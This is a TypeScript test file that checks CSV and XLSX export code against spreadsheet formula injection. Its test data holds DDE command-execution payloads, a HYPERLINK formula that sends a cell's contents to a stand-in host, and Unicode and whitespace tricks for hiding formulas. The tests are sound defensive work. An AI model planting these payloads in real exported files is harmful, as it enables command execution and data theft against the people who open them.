import { buffer } from "node:stream/consumers";
import { parse } from "csv-parse/sync";
import { readSheet } from "read-excel-file/node";
import { expect, test } from "vitest";
import { fromBuffer } from "yauzl";
import type { SheetHead } from "./sheet.ts";
import { writeCsv } from "./write-csv.ts";
import { writeXlsx } from "./write-xlsx.ts";

const call = 'cmd|"/C calc"!A0';
const link = 'HYPERLINK("http://192.0.2.1/?"&A1;"Πατήστε")';

/** Text that a spreadsheet evaluates, or might, and the ways people hide it. */
const live = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  `=${call}`,
  `+${call}`,
  `-${call}`,
  `@${call}`,
  `=${link}`,
  `+${link}`,
  '=DDE("cmd";"/C calc";"a")',
  "=WEBSERVICE(A1)",
  "=IMPORTXML(A1;B1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "\r\n=1+1",
  " =1+1",
  "   +1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u2060-1+1",
  "\u202e@SUM(A1)",
  "\u3000=1+1",
  "\u00ad+1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  " ＝1+1",
  "\u22121+1",
  "|calc",
  "\ttext",
];

/** Text that looks like a formula and is not: it stays as typed. */
const harmless = [
  "'=1+1",
  '"=1+1"',
  ";=1+1",
  "a,=1+1",
  "a\t=1+1",
  "%0A=1+1",
  "5%",
  "_x003D_1",
  "Α=Β",
  "<v>&",
];

const head: SheetHead = {
  title: "=1+1",
  columns: [
    { header: "=1+1", width: 20, kind: "text" },
    { header: "Ποσό", width: 12, kind: "money" },
    { header: "Λεπτά", width: 12, kind: "number" },
  ],
};
const texts = [...live, ...harmless];
const rows = texts.map((text) => [text, "-5.50", -90]);

test("no text in csv is a formula under any separator; a negative number stays a number", async () => {
  const csv = await buffer(writeCsv(head, [rows]));
  const read: string[][] = parse(csv, { delimiter: ";", bom: true });
  expect(read[0]?.[0]).toBe("'=1+1");
  expect(read.slice(1).map(([text]) => text)).toEqual([
    ...live.map((text) => `'${text}`),
    ...harmless,
  ]);
  expect(read.slice(1).map(([, ...numbers]) => numbers)).toEqual(texts.map(() => ["-5,50", "-90"]));
  // A reader that splits at commas or tabs finds these intact too.
  expect(csv.toString()).toContain('"a,=1+1"');
  expect(csv.toString()).toContain('"a\t=1+1"');
});

test("every text in xlsx is typed as text and reads back unchanged; negative numbers are numbers", async () => {
  const xlsx = await buffer(writeXlsx(head, [rows]));
  const sheet = await partOf(xlsx, "xl/worksheets/sheet1.xml");
  expect(sheet).not.toMatch(/<f[\s>]/);
  const cells = [...sheet.matchAll(/<c r="A\d+"[^>]* t="([^"]+)"/g)].map(([, type]) => type);
  expect(cells).toEqual(Array(rows.length + 1).fill("inlineStr"));
  const sheetRows = (await readSheet(xlsx, { trim: false })).slice(1);
  expect(sheetRows.map(([text]) => text)).toEqual(texts);
  expect(sheetRows.map(([, ...numbers]) => numbers)).toEqual(texts.map(() => [-5.5, -90]));
});

function partOf(xlsx: Buffer, path: string): Promise<string> {
  return new Promise((resolve, reject) => {
    fromBuffer(xlsx, { lazyEntries: true }, (error, zip) => {
      if (error) return reject(error);
      zip.on("entry", (entry) => {
        if (entry.fileName !== path) return zip.readEntry();
        zip.openReadStream(entry, (failed, stream) =>
          failed ? reject(failed) : resolve(buffer(stream).then(String)),
        );
      });
      zip.readEntry();
    });
  });
}
